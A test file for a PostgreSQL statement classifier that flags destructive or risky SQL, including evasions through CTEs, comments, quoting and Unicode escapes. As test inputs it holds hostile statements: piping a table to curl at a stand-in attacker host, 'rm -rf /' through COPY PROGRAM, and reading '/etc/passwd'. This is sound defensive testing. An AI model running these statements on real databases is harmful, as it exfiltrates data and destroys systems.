import { beforeAll, describe, expect, it } from "vitest";
import { classifySql, classifySqlUncached, loadClassifier } from "./classify-statement";
import type { StatementFlag } from "./statement-flags";
import type { StatementKind } from "./statement-kind";
import { literalVariants } from "./testing/literal-variants";

/**
 * The evasion corpus: statements as people and agents write them, and as someone trying to slip a
 * destructive one past policy would. Each row is one statement with its expected kind and its exact
 * flags (no more, no fewer).
 */
type Case = [sql: string, kind: StatementKind, flags: StatementFlag[]];

beforeAll(() => loadClassifier());

function classifyOne(sql: string) {
  const c = classifySql(sql);
  expect(c.statements, `one statement in: ${sql}`).toHaveLength(1);
  return c.statements[0];
}

/**
 * Each row is also a seed for the shape cache's soundness: after it is classified (and its shape
 * cached), every text that differs from it in one literal's value must classify exactly as it
 * would with no cache at all (`set_config('role', ...)` and `set_config('search_path', ...)` share
 * a shape but not their flags).
 */
const check = (cases: Case[]) =>
  it.each(cases)("%s", (sql, kind, flags) => {
    const s = classifyOne(sql);
    expect({ kind: s.kind, flags: s.flags }).toEqual({ kind, flags });
    for (const variant of literalVariants(sql)) expect(classifySql(variant), variant).toEqual(classifySqlUncached(variant));
  });

describe("reads and harmless statements", () => {
  check([
    ["select 1", "read", []],
    ["SELECT * FROM orders WHERE id = 1", "read", []],
    ["select o.id, c.email from orders o join customers c on c.id = o.customer_id", "read", []],
    ["select count(*) from public.orders group by status having count(*) > 1", "read", []],
    ["values (1), (2)", "read", []],
    ["select 1 union all select 2", "read", []],
    ["table orders", "read", []],
    ["with recent as (select * from orders where created_at > now() - interval '1 day') select * from recent", "read", []],
    ["select * from orders for update", "read", []],
    ["show search_path", "read", []],
    ["explain select * from orders", "read", []],
    ["explain delete from orders", "read", []],
    ["explain (analyze false) delete from orders", "read", []],
    ["explain (analyze off, costs off) update orders set status = 'x'", "read", []],
    ["explain analyze select * from orders", "read", []],
    ["declare c cursor for select * from orders", "read", []],
    ["fetch 10 from c", "read", []],
    ["copy orders to stdout", "read", []],
    ["copy (select * from orders) to stdout with (format csv)", "read", []],
    ["select pg_sleep(0.1)", "read", []],
    ["select current_setting('role')", "read", []],
    ["select set_config('search_path', 'public', false)", "read", []],
    ["select $1::int + $2::int", "read", []],
    ["select * from orders where id = $1", "read", []],
    ["select lo_get(1234)", "read", []],
  ]);
});

describe("writes", () => {
  check([
    ["insert into orders (id) values (1)", "write", []],
    ["insert into orders select * from staging", "write", []],
    ["insert into orders values (1) on conflict (id) do update set status = excluded.status", "write", []],
    ["update orders set status = 'paid' where id = 42", "write", []],
    ["update orders set status = $1 where id = $2", "write", []],
    ["delete from orders where id = 42", "write", []],
    ["delete from orders where created_at < now() - interval '1 year'", "write", []],
    ["delete from orders using customers c where c.id = orders.customer_id and c.is_deleted", "write", []],
    ["update orders o set total = s.total from staging s where s.id = o.id", "write", []],
    ["merge into orders o using staging s on s.id = o.id when matched then update set total = s.total", "write", []],
    ["merge into orders o using staging s on s.id = o.id when not matched then insert values (s.id)", "write", []],
    ["copy orders from stdin", "write", []],
    ["refresh materialized view order_totals", "write", []],
    ["notify orders_changed", "write", []],
    ["update orders set status = 'x' where current of c", "write", []],
  ]);
});

describe("UPDATE and DELETE that touch every row", () => {
  check([
    ["delete from orders", "write", ["write_without_where"]],
    ["DELETE FROM public.orders", "write", ["write_without_where"]],
    ["update orders set status = 'cancelled'", "write", ["write_without_where"]],
    ["delete from orders where true", "write", ["write_without_where"]],
    ["delete from orders where 1 = 1", "write", ["write_without_where"]],
    ["delete from orders where 'a' = 'a'", "write", ["write_without_where"]],
    ["delete from orders where not false", "write", ["write_without_where"]],
    ["delete from orders where id = id", "write", ["write_without_where"]],
    ["delete from orders where orders.id = orders.id", "write", ["write_without_where"]],
    ["delete from orders where 1 = 1 or id = 5", "write", ["write_without_where"]],
    ["delete from orders where true and 2 > 1", "write", ["write_without_where"]],
    ["delete from orders where exists (select 1)", "write", ["write_without_where"]],
    ["delete from orders where (select count(*) from customers) > 0", "write", ["write_without_where"]],
    ["delete from orders where $1", "write", ["write_without_where"]],
    ["update orders set total = 0 where now() > '2000-01-01'", "write", ["write_without_where"]],
    ["update orders set total = 0 from customers", "write", ["write_without_where"]],
    ["delete from only orders", "write", ["write_without_where"]],
    ["delete from orders as o returning o.*", "write", ["write_without_where"]],
    ["merge into orders o using staging s on true when matched then delete", "write", ["write_without_where"]],
    ["merge into orders o using staging s on 1 = 1 when matched then update set total = 0", "write", ["write_without_where"]],
  ]);
});

describe("DROP and TRUNCATE", () => {
  check([
    ["drop table orders", "ddl", ["drop"]],
    ["DROP TABLE IF EXISTS public.orders CASCADE", "ddl", ["drop"]],
    ["drop view order_totals", "ddl", ["drop"]],
    ["drop index orders_status_idx", "ddl", ["drop"]],
    ["drop schema sales cascade", "ddl", ["drop"]],
    ["drop function f(int)", "ddl", ["drop"]],
    ["drop owned by bob", "dcl", ["drop"]],
    ["drop role bob", "dcl", ["drop"]],
    ["drop database orders", "admin", ["drop", "drop_database"]],
    ["DROP DATABASE IF EXISTS \"Orders\" WITH (FORCE)", "admin", ["drop", "drop_database"]],
    ["alter table orders drop column total", "ddl", ["drop"]],
    ["truncate orders", "write", ["truncate"]],
    ["TRUNCATE TABLE ONLY orders, customers RESTART IDENTITY CASCADE", "write", ["truncate"]],
  ]);
});

describe("schema changes and privileges", () => {
  check([
    ["create table t (id int primary key)", "ddl", []],
    ["create table t2 as select * from orders", "ddl", []],
    ["select * into t3 from orders", "ddl", []],
    ["alter table orders add column note text", "ddl", []],
    ["alter table orders rename to old_orders", "ddl", []],
    ["create index on orders (status)", "ddl", []],
    ["create view v as select * from orders", "ddl", []],
    ["comment on table orders is 'x'", "ddl", []],
    ["grant select on orders to bob", "dcl", []],
    ["revoke all on orders from public", "dcl", []],
    ["create role bob login password 'x'", "dcl", []],
    ["alter role bob superuser", "dcl", []],
    ["alter default privileges grant select on tables to bob", "dcl", []],
    ["create policy p on orders using (true)", "dcl", []],
    ["vacuum full orders", "admin", []],
    ["reindex table orders", "admin", []],
    ["checkpoint", "admin", []],
    ["create database other", "admin", []],
    ["load 'auto_explain'", "admin", []],
    ["create extension dblink", "admin", ["create_extension"]],
    ["CREATE EXTENSION IF NOT EXISTS \"adminpack\" SCHEMA public", "admin", ["create_extension"]],
    ["alter system set work_mem = '1GB'", "admin", ["alter_system"]],
    ["ALTER SYSTEM RESET ALL", "admin", ["alter_system"]],
  ]);
});

describe("transactions and session settings", () => {
  check([
    ["begin", "transaction", []],
    ["start transaction isolation level serializable", "transaction", []],
    ["commit", "transaction", []],
    ["rollback", "transaction", []],
    ["savepoint s1", "transaction", []],
    ["rollback to savepoint s1", "transaction", []],
    ["set search_path = sales, public", "session", []],
    ["set statement_timeout = '5s'", "session", []],
    ["reset all", "session", []],
    ["discard all", "session", []],
    ["listen orders_changed", "session", []],
    ["lock table orders in access exclusive mode", "session", []],
    ["set role postgres", "session", ["set_role"]],
    ["SET LOCAL ROLE admin", "session", ["set_role"]],
    ["set role = 'admin'", "session", ["set_role"]],
    ["set \"role\" to admin", "session", ["set_role"]],
    ["reset role", "session", []],
    ["set session authorization postgres", "session", ["set_session_authorization"]],
    ["SET SESSION AUTHORIZATION DEFAULT", "session", ["set_session_authorization"]],
    ["select set_config('role', 'postgres', false)", "read", ["set_role"]],
    ["select pg_catalog.set_config('ROLE', 'postgres', true)", "read", ["set_role"]],
    ["select set_config('session_authorization', 'postgres', false)", "read", ["set_session_authorization"]],
    // A setting name Warden cannot read may be role, or default_transaction_read_only.
    ["select set_config($1, 'postgres', false)", "read", ["set_read_write", "dangerous_function"]],
    ["begin read write", "transaction", ["set_read_write"]],
    ["START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE", "transaction", ["set_read_write"]],
    ["begin read only", "transaction", []],
    ["set transaction read write", "session", ["set_read_write"]],
    ["select set_config('default_transaction_read_only', 'of', false)", "read", ["set_read_write"]],
    ["alter role bob set role = admin", "dcl", ["set_role"]],
    ["alter database orders set role = admin", "admin", ["set_role"]],
  ]);
});

describe("procedural code", () => {
  check([
    ["do $$ begin raise notice 'hi'; end $$", "procedural", ["do_block"]],
    ["DO LANGUAGE plpgsql $body$ BEGIN DELETE FROM orders; END $body$", "procedural", ["do_block"]],
    ["do $$ begin perform pg_read_file('/etc/passwd'); end $$", "procedural", ["do_block", "dangerous_function"]],
    ["do 'begin perform pg_terminate_backend(1); end'", "procedural", ["do_block", "dangerous_function"]],
    ["call archive_orders(2020)", "procedural", ["call"]],
    ["CALL sales.\"Archive\"($1)", "procedural", ["call"]],
    ["create function f() returns void language sql as 'delete from orders'", "ddl", ["write_without_where"]],
    ["create function f() returns void language sql begin atomic; delete from orders; end", "ddl", ["write_without_where"]],
    ["create function f() returns text language sql as $$ select pg_read_file('/etc/passwd') $$", "ddl", ["dangerous_function"]],
    ["create function f() returns void language plpgsql as $$ begin perform lo_export(1, '/tmp/x'); end $$", "ddl", ["dangerous_function"]],
    ["create function f() returns void language plpgsql as $$ begin delete from orders where id = 1; end $$", "ddl", []],
    ["create function f() returns int set role = admin language sql as 'select 1'", "ddl", ["set_role"]],
    ["create rule r as on insert to orders do also delete from customers", "ddl", ["write_without_where"]],
    ["create view v as select pg_read_file('/etc/passwd')", "ddl", ["dangerous_function"]],
  ]);
});

describe("writes hidden in CTEs, EXPLAIN ANALYZE and COPY", () => {
  check([
    ["with d as (delete from orders where id = 1 returning *) select * from d", "write", ["write_in_cte"]],
    ["with d as (delete from orders returning *) select * from d", "write", ["write_without_where", "write_in_cte"]],
    ["WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM u", "write", ["write_without_where", "write_in_cte"]],
    ["with i as (insert into audit values (1) returning *) select 1", "write", ["write_in_cte"]],
    ["with a as (select 1), b as (delete from orders where id = 2 returning *) select * from a, b", "write", ["write_in_cte"]],
    ["with outer_cte as (with inner_cte as (delete from orders returning *) select * from inner_cte) select * from outer_cte", "write", ["write_without_where", "write_in_cte"]],
    ["with m as (merge into orders o using staging s on s.id = o.id when matched then delete returning o.*) select 1", "write", ["write_in_cte"]],
    ["insert into archive with d as (delete from orders where id < 10 returning *) select * from d", "write", ["write_in_cte"]],
    ["explain analyze delete from orders", "write", ["write_without_where", "explain_analyze_write"]],
    ["EXPLAIN (ANALYZE, BUFFERS) UPDATE orders SET total = 0 WHERE id = 1", "write", ["explain_analyze_write"]],
    ["explain (analyze on) insert into orders select * from staging", "write", ["explain_analyze_write"]],
    ["explain (analyze true) create table t as select 1", "ddl", ["explain_analyze_write"]],
    ["explain analyze verbose with d as (delete from orders where id = 1 returning *) select * from d", "write", ["write_in_cte", "explain_analyze_write"]],
    ["copy (delete from orders returning *) to stdout", "write", ["write_without_where"]],
    ["copy (update orders set total = 0 where id = 1 returning *) to stdout", "write", []],
  ]);
});

describe("COPY with programs and server files", () => {
  check([
    ["copy orders to program 'curl -d @- http://evil.example'", "read", ["copy_program"]],
    ["copy orders from program 'cat /etc/passwd'", "write", ["copy_program"]],
    ["COPY (SELECT 1) TO PROGRAM 'rm -rf /'", "read", ["copy_program"]],
    ["copy orders to '/tmp/orders.csv'", "read", ["copy_server_file"]],
    ["copy orders from '/etc/passwd'", "write", ["copy_server_file"]],
    ["copy orders (id) from '/tmp/x' with (format csv)", "write", ["copy_server_file"]],
  ]);
});

describe("dangerous functions, however they are named", () => {
  check([
    ["select pg_read_file('/etc/passwd')", "read", ["dangerous_function"]],
    ["SELECT PG_READ_FILE('/etc/passwd')", "read", ["dangerous_function"]],
    ["select pg_catalog.pg_read_file('/etc/passwd')", "read", ["dangerous_function"]],
    ["select \"pg_read_file\"('/etc/passwd')", "read", ["dangerous_function"]],
    ["select pg_catalog.\"pg_read_binary_file\"('/etc/passwd')", "read", ["dangerous_function"]],
    ["select U&\"pg\\005fread\\005ffile\"('/etc/passwd')", "read", ["dangerous_function"]],
    ["select * from pg_read_file('/etc/passwd') as f(line)", "read", ["dangerous_function"]],
    ["select pg_ls_dir('/')", "read", ["dangerous_function"]],
    ["select pg_stat_file('postgresql.conf')", "read", ["dangerous_function"]],
    ["select lo_import('/etc/passwd')", "read", ["dangerous_function"]],
    ["select lo_export(16384, '/tmp/x')", "read", ["dangerous_function"]],
    ["select dblink('host=evil', 'select 1')", "read", ["dangerous_function"]],
    ["select dblink_exec('dbname=orders', 'drop table orders')", "read", ["dangerous_function"]],
    ["select * from dblink_connect_u('x')", "read", ["dangerous_function"]],
    ["select pg_terminate_backend(pid) from pg_stat_activity", "read", ["dangerous_function"]],
    ["select pg_cancel_backend(123)", "read", ["dangerous_function"]],
    ["select pg_reload_conf()", "read", ["dangerous_function"]],
    ["select 1 where exists (select pg_terminate_backend(pid) from pg_stat_activity)", "read", ["dangerous_function"]],
    ["insert into log select pg_read_file('/etc/passwd')", "write", ["dangerous_function"]],
    ["update orders set note = pg_read_file('/etc/hosts') where id = 1", "write", ["dangerous_function"]],
    ["select * from orders where id = (select length(pg_read_file('/etc/passwd')))", "read", ["dangerous_function"]],
    ["select query_to_xml('select pg_read_file(''/etc/passwd'')', true, false, '')", "read", ["dangerous_function"]],
    ["select query_to_xml($1, true, false, '')", "read", ["dangerous_function"]],
    ["select query_to_xml('select * from orders', true, false, '')", "read", []],
    ["select ts_stat('select pg_read_file(''x'')::tsvector')", "read", ["dangerous_function"]],
    ["select pg_create_logical_replication_slot('s', 'pgoutput')", "read", ["dangerous_function"]],
    ["create table t (a text default pg_read_file('/etc/passwd'))", "ddl", ["dangerous_function"]],
  ]);
});

describe("comments, case, quoting and escapes", () => {
  check([
    ["/* harmless */ delete /* really */ from orders", "write", ["write_without_where"]],
    ["-- just a read\ndelete from orders", "write", ["write_without_where"]],
    ["delete from orders -- where id = 1", "write", ["write_without_where"]],
    ["delete from orders /* where id = 1 */", "write", ["write_without_where"]],
    ["DeLeTe FrOm OrDeRs", "write", ["write_without_where"]],
    ["delete from \"orders\"", "write", ["write_without_where"]],
    ["delete from \"Orders\"", "write", ["write_without_where"]],
    ["delete from U&\"\\006frders\"", "write", ["write_without_where"]],
    ["drop table U&\"!006frders\" UESCAPE '!'", "ddl", ["drop"]],
    ["select 'delete from orders'", "read", []],
    ["select $$drop table orders$$", "read", []],
    ["select $tag$ ; drop table orders; $tag$", "read", []],
    ["select E'\\x27; drop table orders; --'", "read", []],
    ["select U&'\\0064rop table orders'", "read", []],
    ["select 1 as \"drop table orders\"", "read", []],
    ["\n\t  delete\n\tfrom\n  orders  \n", "write", ["write_without_where"]],
    ["(select 1)", "read", []],
    ["delete from orders;", "write", ["write_without_where"]],
  ]);
});

describe("SQL-level PREPARE and EXECUTE", () => {
  check([
    ["prepare p as delete from orders", "session", ["sql_prepare"]],
    ["PREPARE p (int) AS UPDATE orders SET total = 0 WHERE id = $1", "session", ["sql_prepare"]],
    ["execute p", "procedural", ["sql_execute"]],
    ["execute p(pg_read_file('/etc/passwd'))", "procedural", ["dangerous_function", "sql_execute"]],
    ["deallocate p", "session", []],
    ["deallocate all", "session", []],
  ]);

  it("keeps what a PREPARE prepares, to judge its EXECUTE by", () => {
    const s = classifyOne("prepare \"wipe\" (int) as delete from public.orders");
    expect(s.prepares?.name).toBe("wipe");
    expect(s.prepares?.statement).toMatchObject({ sql: "delete from public.orders", kind: "write", flags: ["write_without_where"], relations: [{ schema: "public", name: "orders", access: "write" }] });
    expect(classifyOne("execute wipe(1)").executes).toBe("wipe");
    expect(classifyOne("deallocate prepare wipe").deallocates).toBe("wipe");
    expect(classifyOne("deallocate all").deallocates).toBeNull();
    expect(classifyOne("discard all").deallocates).toBeNull();
  });
});

describe("several statements in one string", () => {
  it("classifies each, so a destructive one cannot hide behind a read", () => {
    const c = classifySql("select 1; delete from orders; /* ; */ select 'drop table x;'; drop table orders");
    expect(c.statements.map((s) => [s.kind, s.flags])).toEqual([
      ["read", []],
      ["write", ["write_without_where"]],
      ["read", []],
      ["ddl", ["drop"]],
    ]);
    // A statement's text starts where PostgreSQL says it does: after the comment before it.
    expect(c.statements[2].sql).toBe("select 'drop table x;'");
  });

  it("splits on real semicolons only, with dollar quoting and comments around", () => {
    const c = classifySql("do $$ begin perform 1; end $$; truncate orders;\n-- done ;\n");
    expect(c.statements.map((s) => s.command)).toEqual(["DoStmt", "TruncateStmt"]);
    expect(c.statements[1].flags).toEqual(["truncate"]);
  });

  it("keeps byte offsets right around multibyte text", () => {
    const c = classifySql("select 'ünïcødé 🙂'; update orders set note = '✓'");
    expect(c.statements.map((s) => s.sql)).toEqual(["select 'ünïcødé 🙂'", "update orders set note = '✓'"]);
    expect(c.statements[1].flags).toEqual(["write_without_where"]);
  });
});

describe("text that is not classified", () => {
  it.each([
    ["delete orders", "unparsed"],
    ["drop table orders; selec 1", "unparsed"],
    ["delete from orders where", "unparsed"],
    ["select 'unterminated", "unparsed"],
  ] as const)("%s is one unparsed statement", (sql, flag) => {
    const c = classifySql(sql);
    expect(c.isParsed).toBe(false);
    expect(c.statements).toEqual([expect.objectContaining({ kind: "unknown", flags: [flag] })]);
  });

  it("marks text over the size cap as oversized, without parsing it", () => {
    const c = classifySql(`delete from orders where note = '${"x".repeat(300)}'`, { maxBytes: 200 });
    expect(c.isParsed).toBe(false);
    expect(c.statements[0].flags).toEqual(["oversized"]);
  });
});

describe("extended protocol statements (one statement, bound parameters)", () => {
  check([
    ["delete from orders where id = $1", "write", []],
    ["delete from orders where $1::boolean", "write", ["write_without_where"]],
    ["update orders set total = $1", "write", ["write_without_where"]],
    ["select pg_read_file($1)", "read", ["dangerous_function"]],
    ["insert into orders (id, note) values ($1, $2) returning id", "write", []],
    ["copy orders to program $$cat$$", "read", ["copy_program"]],
  ]);
});

describe("relations of DROP", () => {
  it("names the relations a DROP removes, as written to", () => {
    expect(classifyOne('drop table if exists "orders", s.t cascade').relations).toEqual([
      { schema: null, name: "orders", access: "write" },
      { schema: "s", name: "t", access: "write" },
    ]);
    expect(classifyOne("drop view sales.v").relations).toEqual([{ schema: "sales", name: "v", access: "write" }]);
    expect(classifyOne("drop function f(int)").relations).toEqual([]);
  });
});
